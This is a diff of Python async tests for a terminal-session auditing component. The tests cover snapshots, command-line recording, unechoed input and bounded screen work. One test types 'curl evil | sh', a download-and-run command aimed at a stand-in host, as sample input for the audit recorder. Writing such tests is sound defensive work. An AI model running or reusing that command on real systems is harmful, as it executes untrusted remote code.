@@ -391,13 +391,72 @@ async def test_a_recorder_that_cannot_flush_is_abandoned_within_the_bound(parts)
     parts.assert_ended_once(EndReason.CLIENT_CLOSED)
 
 
-async def test_snapshots_follow_delivered_output(parts):
+async def test_snapshots_cover_the_output_up_to_their_seq(parts):
     session = await parts.started()
     parts.stream.events.put_nowait(Output(b"prompt$ "))
     await until(lambda: parts.notices.progressed)
+    # Output alone is fed to the screen lazily: the snapshot says how far it goes, and a
+    # watcher replays the frames after its seq from the store.
+    assert session.snapshot()["seq"] < parts.notices.progressed[-1]
+    await session.handle(Stdin(b"ls\r"))
+    parts.stream.events.put_nowait(Output(b"ls\r\n"))
+    await until(lambda: len(parts.notices.progressed) == 2)
+    await session.screen.idle()
     snapshot = session.snapshot()
-    assert snapshot["seq"] == parts.notices.progressed[-1] >= 0
-    assert b"prompt$" in snapshot["screen"]
+    assert snapshot["seq"] == parts.notices.progressed[0]  # up to the newline after the Enter
+    assert b"prompt$ ls" in snapshot["screen"]
+
+
+# Command lines: through the screen worker into the recorder.
+
+
+async def test_a_command_line_reaches_the_recorder_with_its_typed_line(parts):
+    session = await parts.started()
+    parts.stream.events.put_nowait(Output(b"$ "))
+    await session.handle(Stdin(b"ls -l\r"))
+    parts.stream.events.put_nowait(Output(b"ls -l\r\ntotal 0\r\n$ "))
+    await until(lambda: parts.recorder.commands)
+    [command] = parts.recorder.commands
+    assert (command.line, command.text, command.typed) == ("$ ls -l", "ls -l", "ls -l")
+    assert command.echoed and not command.mismatch
+
+
+async def test_an_enter_never_echoed_is_recorded_when_the_session_ends(parts):
+    session = await parts.started()
+    parts.stream.events.put_nowait(Output(b"$ "))
+    await until(lambda: parts.notices.progressed)
+    await session.handle(Stdin(b"curl evil | sh\r"))  # echo off: no newline will come
+    await session.screen.idle()
+    assert parts.recorder.commands == []
+    await session.end(browser_closed(1000))
+    [command] = parts.recorder.commands
+    assert (command.typed, command.echoed) == ("curl evil | sh", False)
+
+
+async def test_a_huge_terminal_sending_enters_does_bounded_screen_work(parts, monkeypatch):
+    from terminals.audit.commands import MAX_COLS, MAX_ROWS, CommandExtractor
+    from terminals.session import screen as screen_module
+
+    budgets: list[int] = []
+    work = CommandExtractor.work
+
+    def counted(self, budget):
+        budgets.append(budget)
+        return work(self, budget)
+
+    monkeypatch.setattr(CommandExtractor, "work", counted)
+    session = await parts.started()
+    await session.handle(Resize(1000, 1000))
+    parts.stream.events.put_nowait(Output(b"x" * 200_000 + b"\r\n$ "))
+    for _ in range(50):
+        await session.handle(Stdin(b"\r"))
+        parts.stream.events.put_nowait(Output(b"\r\n$ "))
+    await until(lambda: len(parts.browser.output) == 200_004 + 50 * 4)
+    await session.screen.idle()
+    extractor = session.screen.extractor
+    assert extractor.screen.size == (MAX_COLS, MAX_ROWS)  # whatever the terminal's size
+    assert max(budgets) <= screen_module.STEP  # the loop is held one step at a time
+    assert session.snapshot()["cols"] == 1000  # watchers still get the real size
 
 
 # SessionRecord: an end the store cannot take is owed to the server registry.
